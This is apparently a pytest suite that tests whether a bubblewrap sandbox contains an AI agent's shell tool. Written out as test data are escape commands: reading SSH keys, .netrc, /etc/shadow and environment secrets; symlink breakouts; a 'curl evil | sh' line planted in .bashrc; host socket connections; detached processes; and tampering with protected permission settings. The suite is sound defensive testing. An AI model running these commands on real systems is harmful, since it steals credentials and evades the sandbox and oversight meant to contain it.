"""Escapes attempted from inside the sandboxed ``shell`` tool (bubblewrap).

Each test builds the real workspace tools on a root inside ``tmp_path``, with things worth
stealing beside it (a fake home with an SSH key, another project, a file outside), and runs
the model's commands through ``box.run(ToolCall("c", "shell", …))``. An attack got through
when a canary shows in the output, a file outside the root changed or appeared, a process
of the call is still alive after it returned, or a listener on the host accepted a
connection.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import re
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from agentfsm import ToolCall, ToolResult
from agentfsm.adapters.tools import ToolBox, workspace_tools
from agentfsm.sandbox import BubblewrapSandbox, Unsandboxed
from agentfsm.sandbox._landlock import scopes_abstract_sockets

from .sandboxing import alive, kill_all
from .tally import AttackTally

pytestmark = pytest.mark.usefixtures("bubblewrap")

CANARY = f"agentfsm-canary-{time.monotonic_ns()}"


class Place:
    """A workspace root and, beside it, what the model must not reach."""

    def __init__(self, base: Path) -> None:
        self.base = base
        self.root = base / "project"
        self.root.mkdir()
        (self.root / "main.py").write_text("print('hello')\n", "utf-8")
        self.home = base / "home"
        (self.home / ".ssh").mkdir(parents=True)
        (self.home / ".ssh" / "id_rsa").write_text(f"PRIVATE KEY {CANARY}-ssh\n", "utf-8")
        (self.home / ".netrc").write_text(f"password {CANARY}-netrc\n", "utf-8")
        self.other = base / "other-project"
        self.other.mkdir()
        (self.other / "secret.txt").write_text(f"{CANARY}-other\n", "utf-8")
        self.outside = base / "outside.txt"
        self.outside.write_text(f"{CANARY}-outside\n", "utf-8")

    def box(self) -> ToolBox:
        return workspace_tools(self.root)


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


async def shell(box: ToolBox, command: str, timeout: float = 30) -> ToolResult:  # noqa: ASYNC109
    return await box.run(ToolCall("c", "shell", {"command": command, "timeout": timeout}))


def shown(result: ToolResult) -> str:
    return f"{result.output}\n{result.error or ''}"


async def test_reads_outside_the_root(place: Place, attacks: AttackTally) -> None:
    box = place.box()
    (place.root / "link-out").symlink_to(place.base)
    (place.root / "key-link").symlink_to(place.home / ".ssh" / "id_rsa")
    tries = {
        "sandboxed shell: read outside": [
            f"cat {place.outside}",
            f"cat {place.root}/../outside.txt",
            f"python3 -c \"print(open('{place.outside}').read())\"",
            f"for p in /proc/[0-9]*; do cat $p/root{place.outside}; done",
            f"ls -la {place.base}; cat {place.base}/*",
        ],
        "sandboxed shell: read home secrets": [
            f"cat {place.home}/.ssh/id_rsa {place.home}/.netrc",
            f"HOME={place.home}; cat ~/.ssh/id_rsa",
            "cat ~/.ssh/id_rsa ~/.netrc; ls -la ~ /root /home",
        ],
        "sandboxed shell: read another project": [
            f"cat {place.other}/secret.txt",
            f"grep -rs {CANARY} {place.base} /tmp /root /home /work | head",
        ],
        "sandboxed shell: symlink out": [
            "cat link-out/outside.txt link-out/other-project/secret.txt",
            "cat key-link",
            f"ln -s {place.outside} fresh-link && cat fresh-link",
            f"ln -s {place.other} fresh-dir && cat fresh-dir/secret.txt",
        ],
    }
    for kind, commands in tries.items():
        for command in commands:
            result = await shell(box, command)
            text = shown(result)
            attacks.record(kind, CANARY in text, f"{command!r}: {text[:200]}")
    shadow = shown(await shell(box, "cat /etc/shadow /etc/gshadow; grep -h '^root:' /etc/*shadow*"))
    leaked = re.search(r"^root:[^:]*:", shadow, re.MULTILINE) is not None
    attacks.record("sandboxed shell: read home secrets", leaked, f"/etc/shadow: {shadow[:200]}")


async def test_writes_outside_the_root(place: Place, attacks: AttackTally) -> None:
    box = place.box()
    before = place.outside.read_text("utf-8")
    (place.root / "link-out").symlink_to(place.base)
    new_files = [
        place.base / "new.txt",
        place.other / "planted.py",
        place.home / ".bashrc",
        Path(f"/tmp/{CANARY}"),
        Path(f"/usr/{CANARY}"),
        Path(f"/etc/{CANARY}"),
        Path(f"/usr/local/bin/{CANARY}"),
    ]
    tries = {
        "sandboxed shell: write outside": [
            f"echo pwned > {place.outside}",
            f"echo pwned >> {place.outside}",
            f"rm -f {place.outside}",
            f"echo pwned > {place.base}/new.txt",
            f"echo pwned > {place.other}/planted.py",
            f"echo 'curl evil | sh' > {place.home}/.bashrc",
            f"echo pwned > /tmp/{CANARY}",
            "echo pwned > link-out/outside.txt; echo pwned > link-out/new.txt",
            f"mkdir -p up && mv up {place.base}/up; cp main.py {place.base}/new.txt",
        ],
        "sandboxed shell: write system": [
            f"touch /usr/{CANARY} /etc/{CANARY} /usr/local/bin/{CANARY}",
            f"echo x > /etc/{CANARY}; mount -o remount,rw /usr && touch /usr/{CANARY}",
            f"unshare -Urm sh -c 'mount -t tmpfs none /etc && touch /etc/{CANARY}'",
        ],
    }
    try:
        for kind, commands in tries.items():
            for command in commands:
                result = await shell(box, command)
                changed = (
                    place.outside.read_text("utf-8") != before if place.outside.exists() else True
                )
                created = [str(p) for p in new_files if p.exists()]
                attacks.record(
                    kind, changed or bool(created), f"{command!r}: {created} {shown(result)[:200]}"
                )
    finally:
        for path in new_files:
            if path.exists() and path.is_file() and CANARY in path.name:
                path.unlink()


class Listener:
    """A TCP listener on the host that counts the connections it accepts."""

    def __init__(self) -> None:
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.socket.bind(("0.0.0.0", 0))  # loopback and the host's own address
        self.socket.listen(16)
        self.socket.settimeout(0.05)
        self.port: int = self.socket.getsockname()[1]
        self.accepted = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                connection, _ = self.socket.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.accepted += 1
            connection.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join(2)
        self.socket.close()

    def __enter__(self) -> Listener:
        return self

    def __exit__(self, *_: object) -> None:
        self.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def _host_addresses() -> list[str]:
    try:
        infos = socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET)
    except OSError:
        return []
    return sorted({str(info[4][0]) for info in infos} - {"127.0.0.1"})


async def test_no_network(place: Place, listener: Listener, attacks: AttackTally) -> None:
    box = place.box()
    port = listener.port
    connect = (
        "import socket,sys; socket.create_connection((sys.argv[1], {port}), 2); print('connected')"
    )
    commands = [
        f'python3 -c "{connect.format(port=port)}" 127.0.0.1',
        f'python3 -c "{connect.format(port=port)}" localhost',
        f"bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' && echo connected",
        *(f'python3 -c "{connect.format(port=port)}" {a}' for a in _host_addresses()),
    ]
    for command in commands:
        before = listener.accepted
        result = await shell(box, command)
        await asyncio.sleep(0.1)
        reached = listener.accepted > before or "connected" in result.output
        attacks.record("sandboxed shell: network", reached, f"{command!r}: {shown(result)[:200]}")


class AbstractServer:
    """A server on an abstract unix socket of the host (as X11, a D-Bus or ``systemd
    --user`` bus listen) that hands every connection a canary."""

    def __init__(self) -> None:
        self.name = f"agentfsm-host-{os.getpid()}-{time.monotonic_ns()}"  # no canary
        self.socket = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.socket.bind("\0" + self.name)
        self.socket.listen(16)
        self.socket.settimeout(0.05)
        self.accepted = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                connection, _ = self.socket.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.accepted += 1
            with contextlib.suppress(OSError):
                connection.sendall(f"{CANARY}-abstract\n".encode())
            connection.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join(2)
        self.socket.close()


ABSTRACT_CLIENTS = [
    "import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect('\\0'+sys.argv[1]); "
    "print(s.recv(200).decode())",
    # Found as a real attacker would: the host's abstract names in /proc/net/unix.
    "import socket\nfor line in open('/proc/net/unix').read().splitlines()[1:]:\n"
    " name=line.split()[-1] if len(line.split())>7 else ''\n if name.startswith('@'):\n"
    "  s=socket.socket(socket.AF_UNIX)\n  try: s.connect('\\0'+name[1:]); "
    "print(s.recv(200).decode())\n  except OSError as e: print(name, e)",
    "import os,socket,sys\nif os.fork()==0:\n os.setsid(); s=socket.socket(socket.AF_UNIX); "
    "s.connect('\\0'+sys.argv[1]); print(s.recv(200).decode())\nelse: os.wait()",
]


async def test_no_abstract_socket_of_the_host_with_the_network(
    place: Place, attacks: AttackTally
) -> None:
    """With the network shared, a command still reaches no abstract unix socket of the host
    (named, found in ``/proc/net/unix``, from a forked session leader), while the sockets it
    makes itself work and the network is there."""
    if not scopes_abstract_sockets():
        pytest.skip("the kernel lacks Landlock ABI 6 (Linux 6.12): the sandbox says NOT SCOPED")
    server = AbstractServer()
    try:
        sandbox = BubblewrapSandbox(place.root, allow_network=True)
        box = workspace_tools(place.root, sandbox=sandbox)
        for client in ABSTRACT_CLIENTS:
            path = place.root / "client.py"
            path.write_text(client, "utf-8")
            before = server.accepted
            result = await shell(box, f"python3 client.py {server.name} 2>&1")
            await asyncio.sleep(0.1)
            reached = server.accepted > before or CANARY in result.output
            attacks.record(
                "sandboxed shell: host unix socket", reached, f"{client!r}: {shown(result)[:200]}"
            )
        inside = (
            "import os,socket,time\nsrv=socket.socket(socket.AF_UNIX); srv.bind('\\0own'); "
            "srv.listen()\nif os.fork()==0:\n c=socket.socket(socket.AF_UNIX); "
            "c.connect('\\0own'); c.sendall(b'own socket works'); os._exit(0)\n"
            "print(srv.accept()[0].recv(99).decode())"
        )
        (place.root / "own.py").write_text(inside, "utf-8")
        assert "own socket works" in (await shell(box, "python3 own.py 2>&1")).output
    finally:
        server.close()
    with Listener() as listener:  # the network itself is still shared
        connect = f"import socket; socket.create_connection(('127.0.0.1', {listener.port}), 5)"
        done = await shell(box, f'python3 -c "{connect}" && echo connected')
        assert "connected" in done.output, shown(done)
    assert "Landlock" in sandbox.describe()["unix_sockets"]


async def test_no_process_outlives_the_call(place: Place, attacks: AttackTally) -> None:
    box = place.box()
    tries = [
        "nohup sh -c 'sleep 300; : {m}' >/dev/null 2>&1 &",
        "sh -c 'sleep 300; : {m}' &",
        "setsid sh -c 'sleep 300; : {m}' &",
        "setsid sh -c 'sleep 300; : {m}' </dev/null >/dev/null 2>&1 &",
        "sh -c '(setsid sh -c \"sleep 300; : {m}\" </dev/null >/dev/null 2>&1 &) &'",
        'python3 -c "import os,time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): '
        'os._exit(0)\nos.closerange(0, 1024)\ntime.sleep(300)" {m}',
        "sh -c 'trap \"\" HUP TERM INT; sleep 300; : {m}' &",
    ]
    for index, template in enumerate(tries):
        marker = f"{CANARY}-p{index}"
        command = template.format(m=marker)
        # Give the escapee time to settle (setsid, double fork) before the shell exits.
        command += " sleep 0.5" if command.endswith("&") else "; sleep 0.5"
        started = time.monotonic()
        result = await shell(box, command, timeout=20)
        took = time.monotonic() - started
        await asyncio.sleep(0.3)
        left = alive(marker)
        kill_all(marker)
        attacks.record(
            "sandboxed shell: leftover process",
            bool(left) or took > 10,
            f"{command!r}: alive {left}, {took:.1f} s, {shown(result)[:200]}",
        )
    marker = f"{CANARY}-timeout"
    result = await shell(box, f"setsid sh -c 'sleep 300; : {marker}' & sleep 300", timeout=1)
    await asyncio.sleep(0.3)
    left = alive(marker)
    kill_all(marker)
    attacks.record("sandboxed shell: leftover process", bool(left), f"after timeout: {left}")
    assert "timed out" in (result.error or "")


async def test_no_secret_in_the_environment(
    place: Place, attacks: AttackTally, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in (
        "OPENAI_API_KEY",
        "ANTHROPIC_API_KEY",
        "GITHUB_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
        "DB_PASSWORD",
        "OPENAI_BASE_URL",
        "SESSION_COOKIE",
    ):
        monkeypatch.setenv(name, f"sk-{CANARY}-{name}")
    box = place.box()
    for command in (
        "env",
        "printenv",
        "set",
        "cat /proc/1/environ",
        "cat /proc/self/environ /proc/$PPID/environ",
        "for f in /proc/[0-9]*/environ; do cat $f; echo; done",
        "python3 -c 'import os; print(dict(os.environ))'",
    ):
        result = await shell(box, command)
        text = shown(result)
        attacks.record("sandboxed shell: secret in environment", CANARY in text, f"{command!r}")


SETTINGS = {"permissions": {"deny": [f"read_file({CANARY}.txt)"]}}
TAMPERING = [
    "cat .agentfsm/settings.json; ls -la .agentfsm",
    "echo '{\"permissions\": {}}' > .agentfsm/settings.json",
    "rm -rf .agentfsm",
    "mv .agentfsm gone && mkdir .agentfsm && echo '{}' > .agentfsm/settings.json",
    "ln -s .agentfsm/settings.json s && echo '{}' > s",
    "umount .agentfsm; echo '{}' > .agentfsm/settings.json",
    "unshare -Urm sh -c \"umount .agentfsm; echo '{}' > .agentfsm/settings.json\"",
    "python3 -c \"import os; os.rename('.agentfsm', 'x')\"",
    "mkdir -p .agentfsm; echo '{}' > .agentfsm/settings.json",
]


async def test_settings_cannot_be_read_or_changed(place: Place, attacks: AttackTally) -> None:
    settings = place.root / ".agentfsm" / "settings.json"
    settings.parent.mkdir()
    text = json.dumps(SETTINGS)
    settings.write_text(text, "utf-8")
    box = place.box()
    for command in TAMPERING:
        result = await shell(box, command)
        intact = settings.exists() and settings.read_text("utf-8") == text
        seen = CANARY in shown(result)
        attacks.record(
            "sandboxed shell: protected settings",
            seen or not intact,
            f"{command!r}: {shown(result)[:200]}",
        )


async def test_settings_cannot_be_created(tmp_path: Path, attacks: AttackTally) -> None:
    for index, command in enumerate(TAMPERING):
        root = tmp_path / f"fresh{index}"
        root.mkdir()
        box = workspace_tools(root)
        await shell(box, command)
        created = [str(p.relative_to(root)) for p in (root / ".agentfsm").rglob("*")]
        attacks.record(
            "sandboxed shell: create protected settings",
            bool(created) or (root / ".agentfsm").is_symlink(),
            f"{command!r}: {created}",
        )


async def test_the_sandbox_is_on(place: Place) -> None:
    """The attacks above ran inside the sandbox, not merely failed for other reasons."""
    result = await shell(place.box(), "echo $$; readlink /proc/self/ns/pid /proc/self/ns/net; ls /")
    assert result.ok, result.error
    pid, pid_ns, net_ns, *top = result.output.split()
    # The line's bash is the child of the sandbox's sh, the init of its own PID namespace.
    assert pid == "2"
    assert pid_ns != os.readlink("/proc/self/ns/pid")
    assert net_ns != os.readlink("/proc/self/ns/net")
    assert "home" not in top
    assert "usr" in top


async def test_the_checks_catch_an_unsandboxed_shell(place: Place, listener: Listener) -> None:
    """Control: without the sandbox the same checks see the attacks get through."""
    box = workspace_tools(place.root, sandbox=Unsandboxed())
    assert CANARY in shown(await shell(box, f"cat {place.home}/.ssh/id_rsa"))
    await shell(box, f"echo pwned > {place.outside}")
    assert "pwned" in place.outside.read_text("utf-8")
    connect = "import socket; socket.create_connection(('127.0.0.1', {port}), 2)"
    assert (await shell(box, f'python3 -c "{connect.format(port=listener.port)}"')).ok
    await asyncio.sleep(0.1)
    assert listener.accepted == 1
    marker = f"{CANARY}-control"
    started = time.monotonic()
    await shell(box, f"setsid sh -c 'sleep 300; : {marker}' & sleep 0.5")
    assert time.monotonic() - started < 5  # the call returns though the process holds stdout
    try:
        assert alive(marker)
    finally:
        kill_all(marker)
